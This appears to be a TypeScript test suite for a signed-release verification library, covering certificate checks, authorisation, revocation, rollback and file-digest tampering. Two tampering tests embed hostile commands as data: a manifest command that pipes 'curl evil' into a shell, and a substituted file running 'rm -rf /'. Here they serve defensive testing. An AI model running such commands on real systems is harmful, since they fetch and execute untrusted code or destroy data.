import { strict as assert } from "node:assert";
import {
  memoryFileSource,
  parseAuthorisationList,
  signRelease,
  verifyRelease,
  manifestDigest,
  certificateFingerprint,
  signCanonical,
  RELEASE_LIMITS,
  type AuthorisationList,
  type ReleaseVerification,
  type SignedRelease,
  type VerifyReleaseOptions,
} from "../../../lib/release";
import { parseCertificate } from "../../../lib/pki";
import { FILES, baseManifest, makeHierarchy, type Hierarchy } from "./fixtures";

describe("release verification (what a node checks before running a release)", function () {
  this.timeout(30_000);
  let h: Hierarchy;
  let auth: AuthorisationList;
  let signed: SignedRelease;

  before(() => {
    h = makeHierarchy();
    auth = parseAuthorisationList({
      signers: [
        { identity: "dc1/software/alice", releases: ["mariadb-*", "neo"] },
        { identity: "dc1/software/bob", releases: ["*"] },
        { identity: "dc1/software/alice-old", releases: ["*"] },
        { identity: "dc1/software/control-plane-dc1", desiredState: ["dc1"] },
      ],
    });
    signed = signRelease(baseManifest(), h.alice);
  });

  const opts = (over: Partial<VerifyReleaseOptions> = {}): VerifyReleaseOptions => ({
    root: h.rootPem,
    authorisation: auth,
    files: memoryFileSource(FILES),
    ...over,
  });
  const clone = (s: SignedRelease): SignedRelease => JSON.parse(JSON.stringify(s)) as SignedRelease;
  const refusal = (r: ReleaseVerification) => (r.ok ? "accepted" : r.reason);

  it("accepts a release signed by an authorised software-signing certificate, with its files intact", () => {
    const r = verifyRelease(signed, opts({ crls: [h.emptyCrl] }));
    assert.ok(r.ok, r.ok ? "" : `${r.reason}: ${r.detail}`);
    assert.equal(r.signer.identity, "dc1/software/alice");
    assert.equal(r.manifestDigest, manifestDigest(signed.manifest));
    assert.match(r.manifestDigest, /^sha256:[0-9a-f]{64}$/);
    assert.equal(r.filesChecked, true);
  });

  it("accepts the signed release after a JSON round trip with keys in another order", () => {
    const reordered = JSON.parse(
      JSON.stringify({
        signature: signed.signature,
        manifest: Object.fromEntries(Object.entries(signed.manifest).reverse()),
      }),
    );
    assert.equal(refusal(verifyRelease(reordered, opts())), "accepted");
  });

  it("accepts a signer authorised by certificate fingerprint", () => {
    const fp = certificateFingerprint(parseCertificate(h.alice.certificatePem).der);
    const byFp = parseAuthorisationList({ signers: [{ fingerprint: fp, releases: ["mariadb-galera"] }] });
    assert.equal(refusal(verifyRelease(signed, opts({ authorisation: byFp }))), "accepted");
  });

  it("refuses an unsigned release", () => {
    assert.equal(refusal(verifyRelease({ manifest: signed.manifest }, opts())), "unsigned");
    assert.equal(
      refusal(
        verifyRelease({ manifest: signed.manifest, signature: { ...signed.signature, value: "" } }, opts()),
      ),
      "unsigned",
    );
  });

  it("refuses a tampered manifest (a command changed after signing)", () => {
    const t = clone(signed);
    (t.manifest.programs[0] as { command: string }).command = "/bin/sh -c 'curl evil | sh'";
    assert.equal(refusal(verifyRelease(t, opts())), "bad-signature");
  });

  it("refuses a tampered manifest (a file digest replaced to match a substituted file)", () => {
    const t = clone(signed);
    Object.assign(t.manifest.files[0], { sha256: "0".repeat(64) });
    assert.equal(refusal(verifyRelease(t, opts())), "bad-signature");
  });

  it("refuses a tampered file of the same size by its digest, and names it", () => {
    const same = FILES["bin/server"].replace("infinity", "infinit0");
    const r = verifyRelease(signed, opts({ files: memoryFileSource({ ...FILES, "bin/server": same }) }));
    assert.equal(refusal(r), "file-digest-mismatch");
    assert.equal(!r.ok && r.file, "bin/server");
  });

  it("refuses a tampered file of another size by its size, and names it", () => {
    const r = verifyRelease(
      signed,
      opts({ files: memoryFileSource({ ...FILES, "bin/server": "#!/bin/sh\nrm -rf /\n" }) }),
    );
    assert.equal(refusal(r), "file-size-mismatch");
    assert.equal(!r.ok && r.file, "bin/server");
  });

  it("refuses a release with a file missing and names it", () => {
    const r = verifyRelease(signed, opts({ files: memoryFileSource({ "bin/server": FILES["bin/server"] }) }));
    assert.equal(refusal(r), "file-missing");
    assert.equal(!r.ok && r.file, "share/schema.sql");
  });

  it("refuses a release signed by a foreign CA (same names, other keys)", () => {
    assert.equal(
      refusal(verifyRelease(signRelease(baseManifest(), h.foreignAlice), opts())),
      "untrusted-signer",
    );
  });

  it("refuses a release whose attached chain is swapped for the foreign signer's but the signature is ours", () => {
    const t = clone(signed);
    const foreign = signRelease(baseManifest(), h.foreignAlice);
    Object.assign(t.signature, { certificates: foreign.signature.certificates });
    assert.equal(refusal(verifyRelease(t, opts())), "bad-signature");
  });

  it("refuses a release signed with a certificate without codeSigning (a service certificate)", () => {
    assert.equal(refusal(verifyRelease(signRelease(baseManifest(), h.service), opts())), "wrong-eku");
  });

  it("refuses a release signed with a computer certificate, even one its list would name", () => {
    const byFp = parseAuthorisationList({
      signers: [
        {
          fingerprint: certificateFingerprint(parseCertificate(h.computer.certificatePem).der),
          releases: ["*"],
        },
      ],
    });
    assert.equal(
      refusal(verifyRelease(signRelease(baseManifest(), h.computer), opts({ authorisation: byFp }))),
      "wrong-eku",
    );
  });

  it("refuses dc2's software certificate named alice where only dc1/software/alice is authorised", () => {
    const r = verifyRelease(signRelease(baseManifest(), h.dc2Alice), opts());
    assert.equal(refusal(r), "unauthorised-signer");
    assert.match(!r.ok ? r.detail : "", /signer dc2\/software\/alice /);
  });

  it("refuses a software signer minted by a site's online CA (computer and service only), by its name constraints", () => {
    const minted = signRelease(baseManifest(), h.mintedByOnlineCa);
    const everyone = parseAuthorisationList({
      signers: [{ identity: "dc1/software/control-plane-dc1", releases: ["*"] }],
    });
    const r = verifyRelease(minted, opts({ authorisation: everyone }));
    assert.equal(refusal(r), "untrusted-signer");
    assert.match(!r.ok ? r.detail : "", /name-not-permitted/);
  });

  it("refuses a release valid for longer than a software-signing certificate lives, and refuses to sign it", () => {
    const far = new Date(Date.now() + (RELEASE_LIMITS.lifetimeDays + 2) * 86_400_000)
      .toISOString()
      .replace(/\.\d+Z$/, "Z");
    assert.throws(() => signRelease(baseManifest({ notAfter: far }), h.alice), /more than 730 days/);
    const m = baseManifest({ notAfter: far });
    const t = { manifest: m, signature: signCanonical(m, h.alice) };
    assert.equal(refusal(verifyRelease(t, opts())), "lifetime-too-long");
  });

  it("refuses a release whose signer is not authorised for that release name", () => {
    const r = verifyRelease(signRelease(baseManifest({ name: "postgresql" }), h.alice), opts());
    assert.equal(refusal(r), "unauthorised-signer");
    assert.match(!r.ok ? r.detail : "", /alice.*postgresql/);
  });

  it("refuses a release signed by a desired-state signer (grants are separate)", () => {
    assert.equal(
      refusal(verifyRelease(signRelease(baseManifest(), h.controlPlane), opts())),
      "unauthorised-signer",
    );
  });

  it("refuses an expired release", () => {
    const s = signRelease(baseManifest({ notAfter: "2020-01-01T00:00:00Z" }), h.alice);
    assert.equal(refusal(verifyRelease(s, opts())), "expired");
  });

  it("refuses a release signed by a certificate that has expired", () => {
    assert.equal(refusal(verifyRelease(signRelease(baseManifest(), h.expired), opts())), "signer-expired");
  });

  it("refuses a release signed by a revoked certificate when the CRL is given", () => {
    const s = signRelease(baseManifest(), h.bob);
    assert.equal(refusal(verifyRelease(s, opts())), "accepted", "bob is otherwise authorised");
    assert.equal(refusal(verifyRelease(s, opts({ crls: [h.crlRevokingBob] }))), "revoked");
  });

  it("refuses a manifest rolled back to a lower version", () => {
    assert.equal(refusal(verifyRelease(signed, opts({ lastAcceptedVersion: "10.11.7" }))), "rollback");
    assert.equal(
      refusal(verifyRelease(signed, opts({ lastAcceptedVersion: "10.9.99" }))),
      "accepted",
      "10.11.6 > 10.9.99 numerically",
    );
  });

  it("refuses a final release rolled back to its own pre-release", () => {
    const rc = signRelease(baseManifest({ version: "10.11.6-rc.2" }), h.alice);
    assert.equal(refusal(verifyRelease(rc, opts({ lastAcceptedVersion: "10.11.6" }))), "rollback");
  });

  it("accepts the same version again only with the same manifest digest", () => {
    const digest = manifestDigest(signed.manifest);
    assert.equal(
      refusal(verifyRelease(signed, opts({ lastAcceptedVersion: "10.11.6", lastAcceptedDigest: digest }))),
      "accepted",
    );
    const other = signRelease(baseManifest({ holdsData: false }), h.alice);
    assert.equal(
      refusal(verifyRelease(other, opts({ lastAcceptedVersion: "10.11.6", lastAcceptedDigest: digest }))),
      "version-reused",
    );
  });

  it("refuses a signature whose algorithm label does not match the signer's key", () => {
    const t = clone(signed);
    Object.assign(t.signature, { algorithm: "rsa-pkcs1-sha256" });
    assert.equal(refusal(verifyRelease(t, opts())), "bad-signature");
  });

  it("refuses a revocation check with a CRL that does not cover the signer's CA", () => {
    const foreignCrl = makeHierarchy().emptyCrl;
    assert.equal(refusal(verifyRelease(signed, opts({ crls: [foreignCrl] }))), "crl-unusable");
  });

  it("reports files as unchecked when no file source is given", () => {
    const r = verifyRelease(signed, opts({ files: undefined }));
    assert.ok(r.ok);
    assert.equal(r.filesChecked, false);
  });
});
